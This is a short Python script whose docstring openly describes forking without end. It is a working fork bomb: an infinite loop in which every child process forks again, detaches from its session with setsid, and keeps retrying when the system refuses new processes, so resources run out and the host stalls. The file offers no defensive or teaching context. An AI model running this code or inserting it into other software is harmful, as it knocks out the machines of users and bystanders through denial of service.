"""Forks without end: every child forks on, stays alive, and forks again where it was refused."""

import os
import time


def main():
    while True:
        try:
            if os.fork() == 0:
                os.setsid()
        except OSError:
            time.sleep(0.01)


main()
